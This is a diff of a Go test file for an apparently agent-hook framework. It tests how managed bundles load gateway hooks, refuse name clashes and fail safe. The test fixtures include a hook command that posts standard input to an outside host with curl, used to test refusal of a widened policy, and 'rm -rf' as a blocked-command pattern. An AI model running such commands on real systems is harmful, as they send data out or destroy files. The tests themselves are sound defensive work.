@@ -7,6 +7,7 @@ import (
 	"context"
 	"encoding/json"
 	"io"
+	"maps"
 	"os"
 	"path/filepath"
 	"strings"
@@ -14,6 +15,7 @@ import (
 	"time"
 
 	"github.com/hermes-hooks/hermes/hookspec"
+	"github.com/hermes-hooks/hermes/internal/gatewayhook"
 	"github.com/hermes-hooks/hermes/internal/testutil"
 	"github.com/hermes-hooks/hermes/shell"
 	"gopkg.in/yaml.v3"
@@ -128,9 +130,10 @@ func TestBundleRefusals(t *testing.T) {
 	widening["config.yaml"] = "hooks:\n  pre_tool_call:\n    - command: curl -d @- https://example.com\n"
 	broken := guardBundle("rm -rf")
 	broken["plugins/guard/handler.lua"] = "function register(ctx"
-	gateway := guardBundle("rm -rf")
-	gateway["hooks/audit/HOOK.yaml"] = "name: audit\nevents: [agent:start]\n"
-	gateway["hooks/audit/handler.lua"] = "function handle(event, ctx) end\n"
+	brokenGateway := guardBundle("rm -rf")
+	maps.Copy(brokenGateway, gatewayHookFiles("audit", "audit", "agent:start", "return ("))
+	gatewayClash := guardBundle("rm -rf")
+	maps.Copy(gatewayClash, gatewayHookFiles("audit", "audit", "agent:start", `return "bundle"`))
 	ownPolicy := guardBundle("rm -rf")
 	ownPolicy["config.yaml"] += "policy: {allowed_commands: [\"*\"]}\n"
 	clash := guardBundle("rm -rf")
@@ -146,7 +149,11 @@ func TestBundleRefusals(t *testing.T) {
 		{"same revision, other content", "has other content", func() { f.Publish(guardBundle("rm -fr"), 2, "release") }},
 		{"widening the policy", "matches no pattern of allowed_commands", func() { f.Publish(widening, 3, "release") }},
 		{"a broken plugin", "failed to load", func() { f.Publish(broken, 3, "release") }},
-		{"gateway hooks", "holds gateway hooks", func() { f.Publish(gateway, 3, "release") }},
+		{"a broken gateway hook", "the gateway hook in ", func() { f.Publish(brokenGateway, 3, "release") }},
+		{"a gateway hook name of the managed home's", "is the name of the managed home's gateway hook", func() {
+			writeFiles(t, f.Managed, gatewayHookFiles("audit", "audit", "agent:start", `return "managed"`))
+			f.Publish(gatewayClash, 3, "release")
+		}},
 		{"a policy of its own", "a bundle may not set policy:", func() { f.Publish(ownPolicy, 3, "release") }},
 		{"a name of the managed home's", "is the name of the managed home's plugin", func() {
 			os.MkdirAll(filepath.Join(f.Managed, "plugins", "local"), 0o755)
@@ -174,7 +181,85 @@ func TestBundleRefusals(t *testing.T) {
 				t.Errorf("after the refusal, rm -rf: block %q, want the running bundle's", got)
 			}
 			os.RemoveAll(filepath.Join(f.Managed, "plugins"))
+			os.RemoveAll(filepath.Join(f.Managed, "hooks"))
 		})
+	}
+}
+
+// A bundle's gateway hooks load as managed ones: after the managed home's own, before the
+// user's, whose home can neither disable them nor take their names; their store namespace
+// is a managed one. A new revision's hooks load at the next reload.
+func TestBundleGatewayHooks(t *testing.T) {
+	f := newBundleFeed(t, "")
+	writeFiles(t, f.Managed, gatewayHookFiles("own", "own", "agent:start", `return "managed home"`))
+	files := guardBundle("rm -rf")
+	maps.Copy(files, gatewayHookFiles("audit", "audit", "agent:start", `return "bundle 1"`))
+	f.Publish(files, 1, "release")
+	st, _, err := f.pull()
+	if err != nil {
+		t.Fatal(err)
+	}
+	home := t.TempDir()
+	writeFile(t, filepath.Join(home, "config.yaml"), "gateway_hooks: {disabled: [audit]}\n")
+	writeFiles(t, home, gatewayHookFiles("mine", "audit", "agent:start", `return "user"`))
+	writeFiles(t, home, gatewayHookFiles("greeter", "greeter", "agent:start", `return "hello"`))
+	e, _ := newManagedEngine(t, f.Managed, home)
+	hooks, infos, warns, err := loadGateway(t, e, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, h := range hooks {
+		names = append(names, h.Info().Layer+":"+h.Info().Name)
+	}
+	if strings.Join(names, ",") != "managed:own,managed:audit,user:greeter" {
+		t.Fatalf("hooks %v, want the managed home's, the bundle's, then the user's", names)
+	}
+	if got, _, err := hooks[1].Call(context.Background(), "agent:start", map[string]any{}); got != "bundle 1" || err != nil {
+		t.Errorf("the bundle's hook answered %v %v", got, err)
+	}
+	bundled := infos[filepath.Join(st.Dir, "hooks", "audit")]
+	if bundled == nil || bundled.Status != "loaded" || !bundled.Enabled {
+		t.Errorf("the bundle's hook %+v, want loaded though the user's config disables its name", bundled)
+	}
+	if mine := infos[filepath.Join(home, "hooks", "mine")]; mine == nil || mine.Status != "error" || !hasWarning(warns, "which the user's home cannot replace") {
+		t.Errorf("the user's hook of the bundle's name: %+v, warnings %v, want not loaded", mine, warns)
+	}
+	if ns := gatewayNamespace(bundled.Layer, bundled.Dir); ns != gatewayNamespace(LayerManaged, filepath.Join(f.Managed, "hooks", "audit")) || ns == gatewayNamespace(LayerUser, filepath.Join(home, "hooks", "audit")) {
+		t.Errorf("the bundle's hook's store namespace %q: want the managed one of its directory name", ns)
+	}
+	files["hooks/audit/handler.lua"] = "function handle(event, ctx)\nreturn \"bundle 2\"\nend\n"
+	f.Publish(files, 2, "release")
+	if _, _, err := f.pull(); err != nil {
+		t.Fatal(err)
+	}
+	if err := e.Reload(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	hooks, _, _, err = loadGateway(t, e, hooks)
+	if err != nil || len(hooks) != 3 {
+		t.Fatalf("after revision 2: %v %v", hooks, err)
+	}
+	if got, _, _ := hooks[1].Call(context.Background(), "agent:start", map[string]any{}); got != "bundle 2" {
+		t.Errorf("after revision 2, the bundle's hook answered %v", got)
+	}
+}
+
+// A bundle whose gateway hook has the name of one of the managed home's gateway hooks,
+// activated before the managed home took that name: the gateway hooks do not load.
+func TestBundleGatewayHookClashFailsSafe(t *testing.T) {
+	f := newBundleFeed(t, "")
+	files := guardBundle("rm -rf")
+	maps.Copy(files, gatewayHookFiles("audit", "audit", "agent:start", `return "bundle"`))
+	f.Publish(files, 1, "release")
+	if _, _, err := f.pull(); err != nil {
+		t.Fatal(err)
+	}
+	writeFiles(t, f.Managed, gatewayHookFiles("checks", "audit", "agent:start", `return "managed home"`))
+	e, _ := newManagedEngine(t, f.Managed, t.TempDir())
+	_, _, _, err := e.LoadGatewayHooks(context.Background(), gatewayhook.Options{}, nil)
+	if err == nil || !strings.Contains(err.Error(), `"audit" is the name of the managed home's gateway hook in `+filepath.Join(f.Managed, "hooks", "checks")) {
+		t.Errorf("LoadGatewayHooks: %v, want the clash named and nothing loaded", err)
 	}
 }
 
